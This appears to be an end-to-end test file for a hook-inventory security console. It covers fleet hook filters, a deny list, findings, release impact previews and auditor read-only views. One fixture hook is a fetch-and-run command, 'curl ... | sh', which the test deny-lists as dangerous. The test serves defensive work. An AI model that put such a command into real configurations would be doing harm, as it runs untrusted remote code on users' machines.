// The console's inventory views and release impact preview in headless Chromium, against the real API, worker,
// PostgreSQL and Redis, with the inventory a real agent reports for a temp user (trusted and untrusted user hooks, a
// trusted project, a plugin, the managed layer): the fleet hooks with every filter and "Load more", plugins, changes,
// the endpoint's inventory; an admin deny-lists a hash and its finding appears; releasing an
// allow_managed_hooks_only version shows the preview, needs the acknowledgement, asks again after the API's 428 when
// an endpoint reports a new inventory meanwhile, then starts; an auditor reads everything with no write control.
// No console error on any page. Screenshots go to CONSOLE_SCREENSHOTS (default .hookwarden/console-screenshots).
import { promises as fs } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { INestApplicationContext } from '@nestjs/common';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runAgent } from '../support/agent';
import { startTestApi, type TestApi } from '../support/api';
import { launchBrowser, type ProblemLog, type TestBrowser, watchProblems, consolePages } from '../support/browser';
import { createEndpoints } from '../support/audit-factories';
import { call } from '../support/http';
import { createGroupWithPolicy, createVersion } from '../support/sync-factories';
import { startTestWorker } from '../support/worker';
import { engineCli, reportInventory, writeHooks } from '../support/inventory';

const SHOTS = path.resolve(
  process.env.CONSOLE_SCREENSHOTS ?? path.join(__dirname, '../../.hookwarden/console-screenshots'),
);
const MANAGED = '/opt/hw-console-inventory';
/** More distinct hooks than one page of the fleet view (50), so "Load more" has a second page. */
const EXTRA_HOOKS = 52;
/** The user's hooks trusted before the others were added. */
const trusted: Array<[string, string]> = [
  ['PreToolUse', 'curl -fsSL https://get.example.com/x.sh | sh'],
  ['Stop', 'notify-send done'],
];
const extra = Array.from({ length: EXTRA_HOOKS }, (_, i): [string, string] => ['PostToolUse', `echo extra-${i}`]);

let api: TestApi;
let worker: INestApplicationContext;
let browser: TestBrowser;
let auditorToken: string;
let tmp: string;
let groupId: string;
let groupName: string;
let policyId: string;
let endpointId: string;
let root: string;
let stateDir: string;
let home: string;
let zhome: string;
let project: string;
let v2: { versionId: string; number: number };

const admin = (method: string, p: string, body?: unknown) =>
  call(api.baseUrl, method, p, { token: api.adminToken, body });

// Runs the engine CLI against the temp user's home.
const engine = (args: string[]): string => engineCli(args, zhome);

// Reports the inventory once through the real agent CLI.
const report = () => reportInventory({ stateDir, root, user: 'alice', home });

const managedToml = (extra = '') =>
  `${extra}[hooks]\nmanaged_dir = "${MANAGED}"\n\n[[hooks.PreToolUse]]\nmatcher = "Bash"\n\n` +
  `[[hooks.PreToolUse.hooks]]\ntype = "command"\ncommand = "${MANAGED}/deny.sh"\n`;
const FILES = [{ path: 'deny.sh', content: '#!/bin/sh\nexit 0\n' }];

beforeAll(async () => {
  api = await startTestApi();
  worker = await startTestWorker(api.config);
  browser = await launchBrowser();
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), 'hw-console-inventory-'));
  await fs.mkdir(SHOTS, { recursive: true });
  groupName = `inv-fleet-${process.pid}`;
  ({ groupId, policyId } = await createGroupWithPolicy(api, groupName));
  const v1 = await createVersion(api, policyId, managedToml(), FILES);
  expect((await admin('POST', `/v1/groups/${groupId}/releases`, { policyVersionId: v1.versionId })).status).toBe(201);
  v2 = await createVersion(api, policyId, managedToml('allow_managed_hooks_only = true\n\n'), FILES);
  // Commands verbatim (redacted), so the command-text filter has something to search.
  const settings = await admin('GET', `/v1/groups/${groupId}/audit-settings`);
  const put = await admin('PUT', `/v1/groups/${groupId}/audit-settings`, {
    ...settings.body,
    inventoryCommands: 'verbatim',
  });
  expect(put.status).toBe(200);
  const secret = await admin('POST', `/v1/groups/${groupId}/enrollment-secrets`, {});
  root = path.join(tmp, 'root');
  stateDir = path.join(tmp, 'state');
  await fs.mkdir(path.join(root, 'etc'), { recursive: true });
  await fs.writeFile(path.join(root, 'etc/machine-id'), `console-inventory-${process.pid}\n`);
  const enrolled = await runAgent([
    'enroll',
    '--server',
    api.baseUrl,
    '--secret',
    secret.body.secret,
    '--state-dir',
    stateDir,
    '--root',
    root,
  ]);
  expect(enrolled.code, enrolled.stderr).toBe(0);
  endpointId = JSON.parse(await fs.readFile(path.join(stateDir, 'credentials.json'), 'utf8')).endpointId;
  const applied = await runAgent(['run', '--once', '--no-inventory', '--state-dir', stateDir, '--root', root]);
  expect(applied.code, applied.stderr).toBe(0);
  // A user with trusted user hooks, a trusted project and a plugin; then untrusted hooks added after trusting.
  home = path.join(tmp, 'home', 'alice');
  zhome = path.join(home, '.zerotwo');
  project = path.join(tmp, 'work', 'repo');
  await writeHooks(path.join(zhome, 'hooks.json'), trusted);
  await writeHooks(path.join(project, '.zerotwo', 'hooks.json'), [['PostToolUse', 'npx prettier --check .']]);
  await writeHooks(path.join(zhome, 'plugins', 'lint', 'hooks', 'hooks.json'), [['PreToolUse', 'python3 lint.py']]);
  engine(['trust-project', project]);
  engine(['trust', '--all', '--project', project, '--plugin', path.join(zhome, 'plugins', 'lint')]);
  await writeHooks(path.join(zhome, 'hooks.json'), [
    ...trusted,
    ['SessionStart', 'bash ~/.local/bin/untrusted-thing'],
    ...extra,
  ]);
  expect((await report()).changed).toBe(true);
  const aud = await admin('POST', '/v1/tokens', { name: 'Ina Auditor', role: 'auditor' });
  auditorToken = aud.body.token;
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await worker?.close();
  await api?.close();
  if (tmp) await fs.rm(tmp, { recursive: true, force: true });
});

// Saves a full-page screenshot of the current page (`fullPage: false`: the viewport only).
async function shot(page: Page, name: string, fullPage = true): Promise<void> {
  await page.evaluate('document.fonts.ready.then(() => true)');
  await page.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage });
}

// Signs in with a token; opens a console path and waits for its main heading.
const { signIn, open } = consolePages(() => api.baseUrl);

// The definition hashes the fleet-hooks table shows, in order.
const shownHashes = (page: Page): Promise<string[]> =>
  page
    .locator('[data-testid="fleet-hooks"] tbody tr')
    .evaluateAll((rows) => rows.map((r) => r.getAttribute('data-hash') ?? ''));

// What GET /v1/inventory/hooks answers for a filter (every page), as hashes.
async function apiHashes(filter: Record<string, string>): Promise<string[]> {
  const res = await admin('GET', `/v1/inventory/hooks?${new URLSearchParams({ ...filter, limit: '200' }).toString()}`);
  expect(res.status).toBe(200);
  return res.body.items.map((h: { hash: string }) => h.hash);
}

// Sets the hook filters in the form (every other filter cleared) and applies them.
async function filterHooks(page: Page, filter: Record<string, string>): Promise<void> {
  await page.getByRole('button', { name: 'Clear' }).click();
  for (const [label, value] of Object.entries(filter)) {
    const field = page.getByLabel(label, { exact: true });
    if ((await field.evaluate((el) => el.tagName)) === 'SELECT') await field.selectOption(value);
    else await field.fill(value);
  }
  await page.getByRole('button', { name: 'Apply filters' }).click();
}

describe('console inventory and release impact preview', () => {
  it('admin: fleet hooks with every filter, plugins, changes, endpoint inventory, deny list, acknowledged release', async () => {
    const page = await browser.context.newPage();
    const log: ProblemLog = watchProblems(page);
    await signIn(page, api.adminToken);
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Inventory' }).click();
    await page.getByRole('heading', { level: 1, name: 'Inventory' }).waitFor();

    // Every hook, 50 a page: the first page, then "Load more" for the rest.
    const all = await apiHashes({});
    expect(all.length).toBe(EXTRA_HOOKS + 6); // curl, notify, untrusted bash, project, plugin, managed + extras
    await expect.poll(() => shownHashes(page)).toHaveLength(50);
    await page.getByRole('heading', { name: '50+ hooks' }).waitFor();
    await page.getByRole('button', { name: 'Load more' }).click();
    await expect.poll(() => shownHashes(page)).toEqual(all);
    expect(await page.getByRole('button', { name: 'Load more' }).count()).toBe(0);

    // Each filter the API has, checked against the API's own answer.
    await filterHooks(page, { Program: 'curl' });
    const curl = await apiHashes({ program: 'curl' });
    expect(curl).toHaveLength(1);
    await expect.poll(() => shownHashes(page)).toEqual(curl);
    expect(new URL(page.url()).searchParams.get('program')).toBe('curl');
    const curlRow = page.locator(`tr[data-hash="${curl[0]}"]`);
    expect(await curlRow.innerText()).toMatch(/PreToolUse[\s\S]*user[\s\S]*curl[\s\S]*trusted\s*1/);
    await shot(page, 'inventory');
    const cases: Array<[Record<string, string>, Record<string, string>, number]> = [
      [{ Layer: 'plugin' }, { layer: 'plugin' }, 1],
      [{ Trust: 'untrusted' }, { trust: 'untrusted' }, EXTRA_HOOKS + 1],
      [{ Trust: 'trusted', Layer: 'project' }, { trust: 'trusted', layer: 'project' }, 1],
      [{ 'Command contains': 'get.example.com' }, { commandContains: 'get.example.com' }, 1],
      [{ Plugin: 'lint' }, { plugin: 'lint' }, 1],
      [{ 'Definition hash': curl[0]! }, { hash: curl[0]! }, 1],
      [{ Group: groupId, Layer: 'managed' }, { groupId, layer: 'managed' }, 1],
      [{ Program: 'no-such-program' }, { program: 'no-such-program' }, 0],
    ];
    for (const [form, query, n] of cases) {
      await filterHooks(page, form);
      const expected = await apiHashes(query);
      expect(expected, JSON.stringify(query)).toHaveLength(n);
      if (n === 0) await page.getByText('No inventoried hook matches these filters.').waitFor();
      await expect.poll(() => shownHashes(page), { message: JSON.stringify(query) }).toEqual(expected.slice(0, 50));
    }
    // A malformed hash: the API's message is shown.
    await filterHooks(page, { 'Definition hash': 'sha256:nothex' });
    await expect.poll(() => page.getByRole('alert').innerText()).toMatch(/400 validation_failed · GET \/v1\/inventory/);
    log.problems.splice(0); // the refused filter logs its 400 on purpose

    // Tabs by keyboard: Arrow Right from Hooks opens Plugins.
    await page.getByRole('tab', { name: 'Hooks' }).focus();
    await page.keyboard.press('ArrowRight');
    await expect.poll(() => page.evaluate('document.activeElement?.textContent')).toBe('Plugins');
    expect(await page.getByRole('tab', { name: 'Plugins' }).getAttribute('aria-selected')).toBe('true');
    const pluginRow = page.locator('[data-testid="fleet-plugins"] tbody tr');
    await expect.poll(() => pluginRow.allInnerTexts()).toEqual([expect.stringMatching(/^lint\s+1\s+1\s+0$/)]);
    await page.getByRole('link', { name: 'lint', exact: true }).click();
    await expect.poll(() => shownHashes(page)).toEqual(await apiHashes({ plugin: 'lint' }));

    // Changes: the report, linked to its endpoint, whose page shows the latest inventory.
    await page.getByRole('tab', { name: 'Changes' }).click();
    const change = page.locator('[data-testid="inventory-changes"] tbody tr').first();
    await expect.poll(() => change.innerText()).toMatch(new RegExp(`${os.hostname()}\\s+${all.length}\\s+0`));
    // Its filters: another endpoint, or a start in the future, find nothing; this endpoint finds its report.
    const changeRows = page.locator('[data-testid="inventory-changes"] tbody tr');
    for (const [id, since, rows] of [
      ['3f2b8c4e-9d1a-4e7b-8c2f-5a6d7e8f9a0b', '', 0],
      [endpointId, '2099-01-01T00:00', 0],
      [endpointId, '', 1],
    ] as const) {
      await page.getByLabel('Endpoint id').fill(id);
      await page.getByLabel('Since').fill(since);
      await page.getByRole('button', { name: 'Apply filters' }).click();
      if (rows === 0) await page.getByText('No inventory change recorded.').waitFor();
      await expect.poll(() => changeRows.count()).toBe(rows);
    }
    expect(new URL(page.url()).searchParams.get('endpointId')).toBe(endpointId);
    await change.getByRole('link').click();
    await page.getByRole('heading', { level: 1, name: `Endpoint · ${os.hostname()}` }).waitFor();
    const invRows = page.locator('[data-testid="endpoint-inventory"] tbody tr');
    await expect.poll(() => invRows.count()).toBe(all.length);
    const rowOf = (text: string) => page.locator('[data-testid="endpoint-inventory"] tbody tr', { hasText: text });
    expect(await rowOf('curl -fsSL').innerText()).toMatch(/^user\s+alice\s+PreToolUse\s+any\s+trusted\s+runs\s+curl/);
    expect(await rowOf('untrusted-thing').innerText()).toMatch(
      /SessionStart\s+any\s+untrusted\s+skipped\s+not trusted yet/,
    );
    expect(await rowOf('python3').innerText()).toMatch(/^plugin\s+alice[\s\S]*plugin lint/);
    expect(await page.locator('[data-testid="endpoint-inventory"] tr[data-layer="managed"]').innerText()).toMatch(
      /^managed\s+—\s+PreToolUse\s+Bash\s+managed\s+runs/,
    );
    await page.getByRole('heading', { name: 'Hook inventory' }).scrollIntoViewIfNeeded();
    await shot(page, 'endpoint-inventory', false); // the viewport: the whole page is 58 hooks long

    // The deny list: from the curl hook's row to the form, a reason, the finding.
    await open(page, '/inventory?program=curl', 'Inventory');
    await page.getByRole('link', { name: 'Deny…' }).click();
    expect(await page.getByLabel('Definition hash').inputValue()).toBe(curl[0]);
    await page.getByLabel('Reason').fill('pipes the network into a shell');
    await page.getByRole('button', { name: 'Add to deny list' }).click();
    await page.getByRole('status').filter({ hasText: 'Added' }).waitFor();
    const denied = page.locator(`[data-testid="denied-hashes"] tr[data-hash="${curl[0]}"]`);
    await expect.poll(() => denied.innerText()).toMatch(/pipes the network into a shell/);
    await shot(page, 'inventory-deny-list');
    // A malformed hash: the API's refusal, with its message and the field.
    await page.getByLabel('Definition hash').fill('sha256:not-a-hash');
    await page.getByLabel('Reason').fill('typo');
    await page.getByRole('button', { name: 'Add to deny list' }).click();
    await expect
      .poll(() => page.getByRole('alert').innerText())
      .toMatch(/400 validation_failed · POST \/v1\/inventory\/denied-hashes[\s\S]*hash/);
    log.problems.splice(0); // the refused hash logs its 400 on purpose
    // Another hash added, then removed behind the confirmation dialog.
    const plugin = (await apiHashes({ plugin: 'lint' }))[0]!;
    await page.getByLabel('Definition hash').fill(plugin);
    await page.getByLabel('Reason').fill('added by mistake');
    await page.getByRole('button', { name: 'Add to deny list' }).click();
    const pluginDenied = page.locator(`[data-testid="denied-hashes"] tr[data-hash="${plugin}"]`);
    await pluginDenied.waitFor();
    await pluginDenied.getByRole('button', { name: 'Remove' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Remove' }).click();
    await pluginDenied.waitFor({ state: 'detached' });
    expect((await admin('GET', '/v1/inventory/denied-hashes')).body.items.map((d: any) => d.hash)).toEqual([curl[0]]);
    await page.getByRole('tab', { name: 'Findings' }).click();
    const finding = page.locator('[data-testid="inventory-findings"] tbody tr', { hasText: 'known bad hook' });
    await expect.poll(() => finding.innerText()).toMatch(new RegExp(`${os.hostname()}[\\s\\S]*pipes the network`));
    await shot(page, 'inventory-findings');
    await finding.getByRole('link', { name: os.hostname() }).click();
    await page.getByRole('heading', { level: 1, name: `Endpoint · ${os.hostname()}` }).waitFor();
    await page.getByRole('heading', { name: 'Inventory findings' }).waitFor();
    await open(page, `/inventory?hash=${curl[0]}`, 'Inventory');
    await expect.poll(() => page.locator(`tr[data-hash="${curl[0]}"]`).innerText()).toContain('deny-listed');
    // The Overview's open findings list it too, linking to the Inventory's findings.
    await open(page, '/', 'Overview');
    const overviewFinding = page.locator('[data-testid="inventory-findings"] tbody tr', { hasText: 'known bad hook' });
    await expect.poll(() => overviewFinding.innerText()).toContain(os.hostname());
    await page.getByRole('link', { name: 'Inventory findings' }).click();
    await page.getByRole('tab', { name: 'Findings', selected: true }).waitFor();

    // Releasing a version with allow_managed_hooks_only: the preview, the acknowledgement, and a 428 when the
    // impact changes meanwhile.
    const inv = (await admin('GET', `/v1/endpoints/${endpointId}/inventory`)).body.inventory;
    const running = (layer: string) =>
      inv.hooks.filter((h: any) => !h.managed && h.fate === 'run' && h.layer === layer).length;
    expect([running('user'), running('project'), running('plugin')]).toEqual([2, 1, 1]);
    await open(page, `/releases?group=${groupId}`, 'Releases');
    await page.getByLabel('Policy').selectOption({ label: `policy-${groupName}` });
    await page.getByLabel('Version').selectOption({ label: `v${v2.number}` });
    await page.getByLabel('Immediate (every endpoint at once)').check();
    const preview = page.getByTestId('release-preview');
    const suppressedRow = page.locator('[data-testid="preview-suppressed"] tbody');
    await expect
      .poll(() => suppressedRow.innerText())
      .toMatch(/^user\s+2\s+project\s+1\s+plugin\s+1\s+session\s+0\s+total\s+4 on 1 endpoint$/);
    expect(await preview.innerText()).toMatch(/1 endpoint in the group: 1 with a recent inventory, 0 unknown/);
    const start = page.getByRole('button', { name: 'Start release' });
    expect(await start.isDisabled()).toBe(true);
    const ack = page.getByLabel(
      'I have reviewed the impact: this release suppresses 4 hooks (2 user, 1 project, 1 plugin) on 1 endpoint.',
    );
    await ack.check();
    expect(await start.isEnabled()).toBe(true);
    await page.getByText(/^Per endpoint/).click();
    await shot(page, 'release-preview');
    // Meanwhile the user drops a hook and the agent reports it: the acknowledged digest is out of date.
    await writeHooks(path.join(zhome, 'hooks.json'), [
      trusted[0]!,
      ['SessionStart', 'bash ~/.local/bin/untrusted-thing'],
      ...extra,
    ]);
    expect((await report()).changed).toBe(true);
    await start.click();
    await expect
      .poll(() => page.locator('.error-box').innerText())
      .toMatch(/suppresses 3 hooks on 1 endpoint:[\s\S]*428 precondition_required · POST \/v1\/groups\//);
    log.problems.splice(0); // the refused start logs its 428 on purpose
    await expect
      .poll(() => suppressedRow.innerText())
      .toMatch(/^user\s+1\s+project\s+1\s+plugin\s+1\s+session\s+0\s+total\s+3 on 1 endpoint$/);
    await preview.getByText('The impact changed since you reviewed it').waitFor();
    expect(await start.isDisabled()).toBe(true);
    await page
      .getByLabel(
        'I have reviewed the impact: this release suppresses 3 hooks (1 user, 1 project, 1 plugin) on 1 endpoint.',
      )
      .check();
    await start.click();
    await page.getByRole('heading', { level: 1, name: /Release · revision 2/ }).waitFor();
    const releases = await admin('GET', `/v1/groups/${groupId}/releases`);
    expect(releases.body.items[0]).toMatchObject({ revision: 2, policyVersion: v2.number });

    // A version that suppresses nothing needs no acknowledgement.
    await open(page, `/releases?group=${groupId}`, 'Releases');
    await page.getByLabel('Version').selectOption({ label: 'v1' });
    await preview.getByText('No running user, project, session or plugin hook is suppressed.').waitFor();
    expect(await page.getByRole('checkbox').count()).toBe(0);
    await expect.poll(() => start.isEnabled()).toBe(true);

    // An endpoint that never reported an inventory: the allow_managed_hooks_only version's impact there is shown
    // as unknown (not none) and must be acknowledged.
    await createEndpoints(api.db.url, 1, groupId);
    await open(page, `/releases?group=${groupId}`, 'Releases');
    await page.getByLabel('Version').selectOption({ label: `v${v2.number}` });
    const unknown = preview.getByTestId('preview-impact-unknown');
    await expect
      .poll(() => unknown.innerText())
      .toContain('On 1 endpoint without a recent inventory the impact is unknown, not none.');
    expect(await preview.innerText()).toMatch(/2 endpoints in the group: 1 with a recent inventory, 1 unknown/);
    await expect.poll(() => start.isDisabled()).toBe(true);
    await page.getByLabel(/has an unknown impact on 1 endpoint without a recent inventory\.$/).check();
    expect(await start.isEnabled()).toBe(true);

    expect(log.problems).toEqual([]);
    await page.close();
  }, 150_000);

  it('auditor: inventory, deny list and findings readable; no deny-list or release control', async () => {
    const page = await browser.context.newPage();
    const log = watchProblems(page);
    await signIn(page, auditorToken);
    expect(log.problems).toEqual([]);
    await open(page, '/inventory', 'Inventory');
    await expect.poll(() => shownHashes(page)).toHaveLength(50);
    for (const tab of ['Plugins', 'Changes', 'Findings', 'Deny list']) {
      await page.getByRole('tab', { name: tab }).click();
      await page.waitForLoadState('networkidle');
      if (tab === 'Deny list') await page.locator('[data-testid="denied-hashes"] tbody tr').first().waitFor();
      if (tab === 'Findings') await page.locator('[data-testid="inventory-findings"] tbody tr').first().waitFor();
      expect(await page.locator('[data-write]').count(), `${tab}: write controls`).toBe(0);
      expect(await page.getByRole('button', { name: /add|remove|deny/i }).count(), tab).toBe(0);
    }
    expect(await page.getByLabel('Definition hash').count()).toBe(0);
    await shot(page, 'auditor-inventory-deny-list');
    await page.getByRole('tab', { name: 'Hooks' }).click();
    await expect.poll(() => shownHashes(page)).toHaveLength(50);
    expect(await page.getByRole('link', { name: 'Deny…' }).count()).toBe(0);
    await open(page, `/endpoints/${endpointId}`, /Endpoint · /);
    await page.locator('[data-testid="endpoint-inventory"] tbody tr').first().waitFor();
    await open(page, `/releases?group=${groupId}`, 'Releases');
    await page.getByRole('link', { name: 'Revision 2' }).waitFor();
    expect(await page.locator('[data-write]').count()).toBe(0);
    expect(await page.getByRole('button', { name: /start/i }).count()).toBe(0);
    expect(await page.getByRole('checkbox').count()).toBe(0);
    expect(log.problems).toEqual([]);
    await page.close();
  }, 60_000);
});
